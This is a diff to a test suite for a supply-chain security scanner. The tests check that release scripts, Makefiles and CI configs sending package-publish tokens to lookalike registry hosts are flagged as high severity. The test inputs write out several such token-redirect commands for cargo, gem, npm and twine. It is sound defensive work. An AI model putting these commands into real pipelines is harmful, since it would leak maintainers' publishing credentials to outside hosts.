@@ -419,6 +419,9 @@ describe('remote-package-install in scripts, Makefiles and CI pipelines', () => 
     expect(scriptFindings('Makefile', [], ['release:', '\tcargo publish --index sparse+https://crates.rs-mirror.dev/index/ --token $(CARGO_REGISTRY_TOKEN)'], 'publish-token-redirect')).toEqual(['high Makefile:3']);
     expect(scriptFindings('Jenkinsfile', [], ["sh 'gem push --host https://gems.rubycentral-cdn.org pkg/*.gem -k $RUBYGEMS_API_KEY'"], 'publish-token-redirect')).toEqual(['high Jenkinsfile:2']);
     expect(scriptFindings('.gitlab-ci.yml', [], ['  - npm config set //registry.npmjs-cache.io/:_authToken "$NPM_TOKEN"'], 'publish-token-redirect')).toEqual(['high .gitlab-ci.yml:2']);
+    // One report for the host: the token's, not also npm-registry-override's for the registry= line.
+    const both = scriptDownloadFindings(makeFile('scripts/release.sh', { patch: patchOf([], ["printf 'registry=https://npm.registry-cdn.dev/\\n//npm.registry-cdn.dev/:_authToken=%s\\n' \"$NPM_TOKEN\" > .npmrc", 'npm publish']) }));
+    expect(both.map((f) => `${f.id} ${f.severity}`)).toEqual(['publish-token-redirect high']);
     expect(scriptFindings('scripts/release.sh', [], ['twine upload --repository-url https://upload.pypi-mirror.dev/legacy/ -u __token__ -p "$PYPI_TOKEN" dist/*'], 'publish-token-redirect')).toEqual(['high scripts/release.sh:2']);
   });
 
